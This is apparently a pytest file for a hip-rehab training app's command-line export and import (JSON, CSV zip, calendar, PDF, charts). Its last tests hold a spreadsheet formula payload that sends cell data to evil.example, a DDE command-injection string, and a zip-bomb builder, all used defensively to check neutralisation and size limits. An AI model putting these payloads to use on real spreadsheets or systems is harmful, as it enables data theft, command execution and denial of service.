"""``glutemed export ...`` and ``glutemed import``: files written, round trips through the
store, and malformed files rejected with row and column named while nothing is stored."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import pytest
from icalendar import Calendar
from pypdf import PdfReader
from typer.testing import CliRunner

from glutemed.catalog.catalog import Catalog
from glutemed.catalog.models import Mode, Role
from glutemed.cli import app
from glutemed.programming.models import Goal, Prescription, Profile, Program, Session, Side, Week
from glutemed.progression.models import PerformedSet
from glutemed.services.people import save_program
from glutemed.services.set_logging import log_set
from glutemed.store.engine import make_engine
from glutemed.store.migrate import upgrade
from glutemed.store.unit_of_work import SqlUnitOfWork

DAY0 = dt.date(2026, 1, 5)
STAMP = "2026-01-01T09:00:00Z"


def _program() -> Program:
    profile = Profile(goal=Goal.REHAB, days_per_week=2, weeks=4, mass_kg=68, height_m=1.7)
    item = Prescription(
        variant_id="side-lying-abduction.cuff-ankle",
        role=Role.ABDUCTION,
        mode=Mode.ISOTONIC,
        side=Side.BOTH,
        sets=3,
        reps=(8, 12),
        load_kg=1.0,
        rest_s=60,
        rir=(1, 3),
        rationale="Cuff at the ankle: the longest lever of the side-lying ladder.",
    )
    sessions = [Session(day=1, name="A", items=[item]), Session(day=2, name="B", items=[item])]
    return Program(
        profile=profile,
        weeks=[Week(number=n, focus="volume", sessions=sessions) for n in range(1, 5)],
        rationale=["Hand-written for the export tests."],
    )


@pytest.fixture
def db(tmp_path: Path, catalog: Catalog) -> str:
    """A SQLite store with Ann, her program and two weeks of logged sets."""
    url = f"sqlite:///{tmp_path / 'glutemed.sqlite3'}"
    engine = make_engine(url)
    upgrade(engine)
    with SqlUnitOfWork(engine) as uow:
        pid = uow.people.add("Ann", _program().profile)
        uow.commit()
    save_program(SqlUnitOfWork(engine), pid, _program(), DAY0)
    for day in (0, 3, 7, 10):
        for side in (Side.LEFT, Side.RIGHT):
            for index in (1, 2, 3):
                performed = PerformedSet(
                    variant_id="side-lying-abduction.cuff-ankle",
                    side=side,
                    date=DAY0 + dt.timedelta(days=day),
                    set_index=index,
                    reps=10 + (side is Side.RIGHT),
                    load_kg=1.0,
                    pain_during=1,
                )
                log_set(SqlUnitOfWork(engine), pid, performed, catalog, performed.date)
    engine.dispose()
    return url


def _run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def _people(db: str) -> list[str]:
    engine = make_engine(db)
    with SqlUnitOfWork(engine) as uow:
        names = [p.name for p in uow.people.all()]
    engine.dispose()
    return names


def _set_count(db: str) -> int:
    engine = make_engine(db)
    with SqlUnitOfWork(engine) as uow:
        count = len(uow.sets.recent(uow.people.by_name("Ann").id))
    engine.dispose()
    return count


def test_json_export_import_export_round_trips_through_the_store(db: str, tmp_path: Path) -> None:
    first = tmp_path / "ann.json"
    assert _run("export", "json", "-o", str(first), "--db", db)[0] == 0
    code, out, _ = _run("import", str(first), "--name", "Ann copy", "--db", db)
    assert code == 0 and "Imported: Ann copy" in out and "24 set(s)" in out
    again = tmp_path / "copy.json"
    assert _run("export", "json", "--person", "Ann copy", "-o", str(again), "--db", db)[0] == 0
    a, b = json.loads(first.read_text()), json.loads(again.read_text())
    b["person"]["name"] = a["person"]["name"]
    assert a == b


def test_csv_zip_export_has_the_documented_tables_and_imports_back(db: str, tmp_path: Path) -> None:
    out = tmp_path / "ann.zip"
    assert _run("export", "csv", "-o", str(out), "--db", db)[0] == 0
    names = zipfile.ZipFile(io.BytesIO(out.read_bytes())).namelist()
    assert names == [
        "person.csv",
        "programs.csv",
        "program_items.csv",
        "sets.csv",
        "decisions.csv",
        "progression.csv",
        "pauses.csv",
        "outcomes.csv",
        "attention.csv",
        "program_changes.csv",
    ]
    code, stdout, _ = _run("import", str(out), "--name", "Ann zip", "--db", db)
    assert code == 0 and "Ann zip" in stdout
    assert _people(db) == ["Ann", "Ann zip"]


def test_exports_are_byte_identical_when_repeated(db: str, tmp_path: Path) -> None:
    for kind, extra in (("json", []), ("csv", []), ("ics", ["--dtstamp", STAMP]), ("pdf", [])):
        a, b = tmp_path / f"a.{kind}", tmp_path / f"b.{kind}"
        assert _run("export", kind, "-o", str(a), *extra, "--db", db)[0] == 0
        assert _run("export", kind, "-o", str(b), *extra, "--db", db)[0] == 0
        assert a.read_bytes() == b.read_bytes(), kind


def test_ics_uses_the_stored_dates_and_parses(db: str, tmp_path: Path) -> None:
    out = tmp_path / "ann.ics"
    assert _run("export", "ics", "-o", str(out), "--dtstamp", STAMP, "--db", db)[0] == 0
    events = Calendar.from_ical(out.read_bytes()).walk("VEVENT")
    assert len(events) == 8
    # The store places two sessions a week at days 0 and 3 from the start.
    assert [e.decoded("DTSTART") for e in events[:2]] == [DAY0, DAY0 + dt.timedelta(days=3)]
    moved = tmp_path / "moved.ics"
    args = ("--start", "2026-01-06", "--days", "tue,fri", "--dtstamp", STAMP)
    assert _run("export", "ics", "-o", str(moved), *args, "--db", db)[0] == 0
    moved_events = Calendar.from_ical(moved.read_bytes()).walk("VEVENT")
    assert [str(e["UID"]) for e in moved_events] == [str(e["UID"]) for e in events]
    assert moved_events[0].decoded("DTSTART") == dt.date(2026, 1, 6)


def test_pdf_handout_names_the_person_and_exercise(
    db: str, tmp_path: Path, catalog: Catalog
) -> None:
    out = tmp_path / "ann.pdf"
    assert _run("export", "pdf", "-o", str(out), "--db", db)[0] == 0
    text = "\n".join(p.extract_text() for p in PdfReader(str(out)).pages)
    assert "Your hip program, Ann" in text
    assert catalog.variant("side-lying-abduction.cuff-ankle").name in text


@pytest.mark.parametrize("kind", ["trend", "volume", "adherence", "asymmetry"])
def test_every_chart_kind_writes_png_and_svg(db: str, tmp_path: Path, kind: str) -> None:
    extra = ["--variant", "side-lying-abduction.cuff-ankle"] if kind == "trend" else []
    png, svg = tmp_path / f"{kind}.png", tmp_path / f"{kind}.svg"
    assert _run("export", "chart", kind, *extra, "-o", str(png), "--db", db)[0] == 0
    assert _run("export", "chart", kind, *extra, "-o", str(svg), "--db", db)[0] == 0
    assert png.read_bytes().startswith(b"\x89PNG")
    assert b"<svg" in svg.read_bytes()


def test_chart_input_errors_name_the_allowed_values(db: str) -> None:
    code, _, err = _run("export", "chart", "pie", "--db", db)
    assert code == 2 and "allowed: trend, volume, adherence, asymmetry" in err
    code, _, err = _run("export", "chart", "trend", "--db", db)
    assert code == 2 and "--variant" in err


def test_malformed_sets_csv_names_row_and_column_and_stores_nothing(
    db: str, tmp_path: Path
) -> None:
    sets = tmp_path / "sets.csv"
    assert _run("export", "csv", "--sets-only", "-o", str(sets), "--db", db)[0] == 0
    before = _set_count(db)
    lines = sets.read_text().splitlines()
    lines[5] = lines[5].replace(",1.0,", ",heavy,", 1)
    sets.write_text("\n".join(lines) + "\n")
    code, _, err = _run("import", str(sets), "--person", "Ann", "--db", db)
    assert code == 2
    assert "sets.csv row 6, column load_kg" in err
    assert _set_count(db) == before


def test_valid_sets_csv_is_added_to_a_person_once(db: str, tmp_path: Path) -> None:
    sets = tmp_path / "sets.csv"
    assert _run("export", "csv", "--sets-only", "-o", str(sets), "--db", db)[0] == 0
    engine = make_engine(db)
    with SqlUnitOfWork(engine) as uow:
        bo = uow.people.add("Bo", _program().profile)
        uow.commit()
    # Bo's log starts with his program (Ann's sets are dated from DAY0 on)
    save_program(SqlUnitOfWork(engine), bo, _program(), DAY0)
    engine.dispose()
    code, out, _ = _run("import", str(sets), "--person", "Bo", "--db", db)
    assert code == 0 and "Imported 24 set(s) for Bo" in out
    code, out, _ = _run("import", str(sets), "--person", "Bo", "--json", "--db", db)
    report = json.loads(out)
    assert (report["sets"], report["skipped"]) == (0, {"already in the log": 24})
    assert _set_count(db) == 24  # Ann's own log is untouched by either import


def test_malformed_json_names_its_place_and_stores_nothing(db: str, tmp_path: Path) -> None:
    good = tmp_path / "ann.json"
    assert _run("export", "json", "-o", str(good), "--db", db)[0] == 0
    bad = tmp_path / "bad.json"
    bad.write_text(good.read_text().replace('"reps": 10', '"reps": -3', 1))
    code, _, err = _run("import", str(bad), "--name", "Bad", "--db", db)
    assert code == 2 and "performed_sets[0].reps" in err
    assert _people(db) == ["Ann"]


def test_importing_under_a_taken_name_suggests_name_option(db: str, tmp_path: Path) -> None:
    good = tmp_path / "ann.json"
    assert _run("export", "json", "-o", str(good), "--db", db)[0] == 0
    code, _, err = _run("import", str(good), "--db", db)
    assert code == 2 and "already exists" in err and "--name" in err


STRONG = (
    "Date;Workout Name;Exercise Name;Set Order;Weight;Weight Unit;Reps;RPE;Distance;"
    "Distance Unit;Seconds;Notes;Workout Notes\n"
    '2026-01-09 18:30:00;"Legs";"Goblet Squat (Kettlebell)";1;16;kg;10;8;;;0;"";""\n'
    '2026-01-09 18:30:00;"Legs";"Hip Abduction (Machine)";1;40;kg;12;;;;0;"";""\n'
)


def test_tracker_import_reports_unmapped_names(db: str, tmp_path: Path) -> None:
    path = tmp_path / "strong.csv"
    path.write_text(STRONG)
    before = _set_count(db)
    code, out, _ = _run("import", str(path), "--person", "Ann", "--json", "--db", db)
    assert code == 0
    report = json.loads(out)
    assert report["sets"] == 1 and report["stored"] is True
    assert report["unmapped"] == {"Hip Abduction (Machine)": 1}
    assert _set_count(db) == before + 1


def test_tracker_import_with_a_mapping_and_dry_run_stores_nothing(db: str, tmp_path: Path) -> None:
    path = tmp_path / "strong.csv"
    path.write_text(STRONG)
    before = _set_count(db)
    args = ("--map", "Hip Abduction (Machine)=standing-abduction.cable-ankle", "--dry-run")
    code, out, _ = _run("import", str(path), "--person", "Ann", *args, "--json", "--db", db)
    assert code == 0
    report = json.loads(out)
    assert report == {
        "kind": "strong", "sets": 2, "unmapped": {}, "skipped": {}, "stored": False,
        "person": "Ann",
    }
    assert _set_count(db) == before


def test_unknown_file_and_format_are_input_errors(db: str, tmp_path: Path) -> None:
    path = tmp_path / "other.csv"
    path.write_text("when,what\n2024-01-01,squats\n")
    code, _, err = _run("import", str(path), "--person", "Ann", "--db", db)
    assert code == 2 and "docs/exports.md" in err
    code, _, err = _run("import", str(path), "--format", "xls", "--db", db)
    assert code == 2 and "allowed: auto, json, csv" in err
    code, _, err = _run("import", str(tmp_path / "missing.json"), "--db", db)
    assert code == 2 and "cannot read" in err


def test_handout_and_calendar_from_a_plan_file_touch_no_store(tmp_path: Path) -> None:
    plan = tmp_path / "plan.json"
    plan_json = json.loads(_program().model_dump_json())
    plan_json["weeks"][0]["sessions"][0]["items"][0]["name"] = "extra display field"
    plan.write_text(json.dumps(plan_json))
    store = tmp_path / "never.sqlite3"
    db = f"sqlite:///{store}"
    pdf = tmp_path / "bo.pdf"
    assert (
        _run("export", "pdf", "--program", str(plan), "--name", "Bo", "-o", str(pdf), "--db", db)[0]
        == 0
    )
    assert "Your hip program, Bo" in PdfReader(str(pdf)).pages[0].extract_text()
    ics = tmp_path / "bo.ics"
    args = ("--start", "2026-02-03", "--days", "tue,fri", "--dtstamp", STAMP)
    assert (
        _run(
            "export",
            "ics",
            "--program",
            str(plan),
            "--name",
            "Bo",
            *args,
            "-o",
            str(ics),
            "--db",
            db,
        )[0]
        == 0
    )
    starts = [e.decoded("DTSTART") for e in Calendar.from_ical(ics.read_bytes()).walk("VEVENT")]
    assert starts[:2] == [dt.date(2026, 2, 3), dt.date(2026, 2, 6)]
    assert not store.exists()
    code, _, err = _run("export", "ics", "--program", str(plan), "--db", db)
    assert code == 2 and "--start" in err


FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
COMMAND_NOTE = "=cmd|' /C calc'!A0"


def test_csv_exports_neutralise_formulas_and_import_them_back_as_typed(
    db: str, tmp_path: Path, catalog: Catalog
) -> None:
    """Issue 14, defect 2: a note a spreadsheet would run must reach the file as text."""
    engine = make_engine(db)
    with SqlUnitOfWork(engine) as uow:
        ann = uow.people.by_name("Ann").id
    for note in (FORMULA_NOTE, COMMAND_NOTE):
        performed = PerformedSet(variant_id="side-lying-abduction.cuff-ankle", side=Side.LEFT,
                                 date=DAY0 + dt.timedelta(days=14), reps=10, load_kg=1.0,
                                 note=note, felt_in="@glutes")
        log_set(SqlUnitOfWork(engine), ann, performed, catalog, performed.date)
    engine.dispose()
    sets = tmp_path / "sets.csv"
    history = tmp_path / "ann.zip"
    assert _run("export", "csv", "--sets-only", "-o", str(sets), "--db", db)[0] == 0
    assert _run("export", "csv", "-o", str(history), "--db", db)[0] == 0
    inside = zipfile.ZipFile(history).read("sets.csv").decode("utf-8")
    for text in (sets.read_text(encoding="utf-8"), inside):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + FORMULA_NOTE in cells and "'" + COMMAND_NOTE in cells
        assert "'@glutes" in cells
        assert not [c for c in cells if c[:1] in ("=", "@", "+")]
    assert _run("import", str(history), "--name", "Ann again", "--db", db)[0] == 0
    engine = make_engine(db)
    with SqlUnitOfWork(engine) as uow:
        back = uow.sets.recent(uow.people.by_name("Ann again").id)
    engine.dispose()
    assert {s.performed.note for s in back} >= {FORMULA_NOTE, COMMAND_NOTE}
    assert {s.performed.felt_in for s in back if s.performed.note} == {"@glutes"}


def _bomb(path: Path, member: str, size: int) -> None:
    """A real glutemed zip whose ``member`` is replaced by ``size`` bytes of one repeated
    row: deflate shrinks it about a thousandfold."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("person.csv", "programs.csv", "program_items.csv", "sets.csv",
                     "decisions.csv", "progression.csv"):
            if name != member:
                archive.writestr(name, "x\r\n")
        with archive.open(member, "w", force_zip64=True) as out:
            chunk = b"a" * (1 << 20)
            for _ in range(size >> 20):
                out.write(chunk)


def test_import_refuses_a_zip_that_would_expand_past_the_limit_before_reading_it(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 14, defect 5: a 1 MB zip that expands to gigabytes is refused from its
    directory, before a byte is decompressed; nothing is stored."""
    bomb = tmp_path / "bomb.zip"
    _bomb(bomb, "decisions.csv", 3 << 30)  # 3 GiB of 'a'
    assert bomb.stat().st_size < 4 << 20
    decompressed: list[int] = []
    original_read = zipfile.ZipExtFile.read

    def counting_read(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
        data = original_read(self, n)
        decompressed.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    code, _, err = _run("import", str(bomb), "--db", db)
    assert code == 2
    assert "decisions.csv in the zip would expand to 3 GB" in err
    assert "GLUTEMED_IMPORT_MAX_MB" in err
    assert sum(decompressed) == 0  # refused from the zip's directory, nothing inflated
    assert _people(db) == ["Ann"]


def test_import_limits_the_total_of_the_members_and_a_plain_file(
    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GLUTEMED_IMPORT_MAX_MB", "1")
    big = tmp_path / "big.zip"
    with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("person.csv", "programs.csv", "program_items.csv", "sets.csv",
                     "decisions.csv", "progression.csv"):
            archive.writestr(name, "a" * 300_000)  # each under 1 MB, together 1.8 MB
    code, _, err = _run("import", str(big), "--db", db)
    assert code == 2 and "together" in err and "1 MB" in err
    plain = tmp_path / "big.json"
    plain.write_bytes(b"{" + b" " * (2 << 20) + b"}")
    code, _, err = _run("import", str(plain), "--db", db)
    assert code == 2 and "big.json" in err and "GLUTEMED_IMPORT_MAX_MB" in err
    assert _people(db) == ["Ann"]
